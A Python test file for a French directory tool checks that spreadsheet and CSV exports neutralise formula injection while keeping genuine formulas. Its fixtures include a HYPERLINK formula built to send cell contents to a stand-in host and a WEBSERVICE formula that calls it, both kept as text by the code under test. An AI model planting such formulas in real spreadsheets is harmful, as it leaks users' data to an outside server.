"""Formula injection: a contributor's text that looks like a formula is written
back as text in every workbook and CSV the tool writes, while the
contributor's own formulas in their cells are kept."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
from click.testing import CliRunner

from annuaire import pipeline
from annuaire.cli import main
from annuaire.workbooks import export, template
from annuaire.workbooks import cells
from annuaire.workbooks.annotate import REPORT_SHEET

LEAK = '=HYPERLINK("http://x.example/?leak="&A2,"Cliquez ici")'
WEB = '=WEBSERVICE("http://x.example/?"&E3)'
GENUINE = '=CONCATENATE("Mairie de ","Murat")'
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

HEADER = ["Nom", "Typologie", "Adresse", "Code postal", "Commune", "Téléphone", "Description"]


def _workbook(path: Path) -> Path:
    """Row 2: a name typed as text that is a formula; a phone that is one too.
    Row 3: the contributor's genuine formula in Description."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Services"
    ws.append(HEADER)
    ws.append([LEAK, "Mairie", "Le Bourg", "15300", "Murat", WEB, "+ de 20 ans d’accueil"])
    ws.append(["Mairie de Murat", "Mairie", "Place de l’Hôtel-de-Ville", "15300", "Murat", "04 71 20 03 80", GENUINE])
    for coord in ("A2", "F2", "G2"):
        ws[coord].data_type = "s"  # typed as text (Excel: a leading apostrophe)
    wb.save(path)
    return path


def _formulas(ws) -> dict[str, str]:
    return {c.coordinate: c.value for row in ws.iter_rows() for c in row if c.data_type == "f"}


def _strings_like_formulas(ws) -> list:
    return [
        c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(cells.FORMULA_START)
    ]


def test_annotated_copy_writes_text_as_text_and_keeps_genuine_formulas(tmp_path):
    src = _workbook(tmp_path / "saisie.xlsx")
    out = tmp_path / "rapport.xlsx"
    result = CliRunner().invoke(main, ["validate", str(src), "--annote", str(out)])
    assert result.exit_code in (0, 1), result.output
    wb = openpyxl.load_workbook(out)
    data = wb["Services"]
    assert data["A2"].value == LEAK and data["A2"].data_type == "s"
    assert data["F2"].value == WEB and data["F2"].data_type == "s"
    assert _formulas(data) == {"G3": GENUINE}  # the contributor's own formula, kept
    report = wb[REPORT_SHEET]
    echoed = _strings_like_formulas(report)
    assert any(c.value == WEB for c in echoed), "the phone's value is listed in the Rapport sheet"
    assert _formulas(report) == {}
    assert all(c.data_type == "s" and c.quotePrefix for c in echoed)


def test_annotated_copy_of_a_csv_writes_every_value_as_text(tmp_path):
    src = _csv(
        tmp_path / "saisie.csv",
        [
            ["Nom", "Typologie", "Commune", "Téléphone"],
            [LEAK, "Mairie", "Murat", WEB],
            ["@SUM(1+1)", "Mairie", "Murat", "-2+3"],
        ],
    )
    out = tmp_path / "rapport.xlsx"
    result = CliRunner().invoke(main, ["validate", str(src), "--annote", str(out)])
    assert result.exit_code in (0, 1), result.output
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        assert _formulas(ws) == {}, ws.title
    converted = wb["saisie"]  # the CSV, converted
    assert converted["A2"].value.startswith("=HYPERLINK") and converted["A2"].data_type == "s"
    assert converted["D3"].value == "-2+3" and converted["D3"].quotePrefix


def _csv(path: Path, rows) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    return path


def _entries(tmp_path):
    src = _csv(
        tmp_path / "saisie.csv",
        [
            ["Nom", "Typologie", "Code postal", "Commune", "Description"],
            [LEAK, "Mairie", "15300", "Murat", "-- accueil le matin"],
        ],
    )
    entries = pipeline.prepare([src]).entries
    assert entries and entries[0].name.startswith("=HYPERLINK")
    return entries


def test_exported_workbook_writes_text_as_text(tmp_path):
    out = export.write_entries(_entries(tmp_path), tmp_path / "export.xlsx")
    for ws in openpyxl.load_workbook(out).worksheets:
        assert _formulas(ws) == {}
        assert any(c.value.startswith("=HYPERLINK") for c in _strings_like_formulas(ws))


def test_exported_csv_guards_formula_starts_like_owasp_says(tmp_path):
    out = export.write_csv(_entries(tmp_path), tmp_path / "export.csv")
    with open(out, encoding="cp1252", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Nom"].startswith("'=HYPERLINK")
    assert record["Description"] == "'-- accueil le matin"
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert cells.csv_safe(value) == "'" + value
    assert cells.csv_safe("Mairie") == "Mairie"


def test_template_source_is_text_and_its_own_formulas_stay(tmp_path):
    out = tmp_path / "modele.xlsx"
    template.write_template(out, source=WEB)
    wb = openpyxl.load_workbook(out)
    services = wb[template.SERVICES_SHEET]
    assert _formulas(services)  # Code INSEE lookup and Source, our own formulas
    for ws in wb.worksheets:
        if ws.title == template.SERVICES_SHEET:
            continue
        assert _formulas(ws) == {}, ws.title
    guide = wb[template.GUIDE_SHEET]
    assert any(c.value == WEB for c in _strings_like_formulas(guide))


def test_libreoffice_does_not_evaluate_the_annotated_copy(tmp_path):
    src = _workbook(tmp_path / "saisie.xlsx")
    out = tmp_path / "rapport.xlsx"
    CliRunner().invoke(main, ["validate", str(src), "--annote", str(out)])
    converted = subprocess.run(
        [
            SOFFICE,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path / "csv"),
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert converted.returncode == 0, converted.stderr
    sheets = {}
    for p in (tmp_path / "csv").iterdir():
        with open(p, encoding="utf-8", newline="") as fh:
            sheets[p.name] = [field for row in csv.reader(fh, delimiter=";") for field in row]
    services = next(fields for name, fields in sheets.items() if "Services" in name)
    report = next(fields for name, fields in sheets.items() if REPORT_SHEET in name)
    assert LEAK in services and WEB in services  # shown as typed, not evaluated
    assert WEB in report  # the Valeur column of the problem list
    assert "Mairie de Murat" in services  # the genuine formula, evaluated as the contributor meant
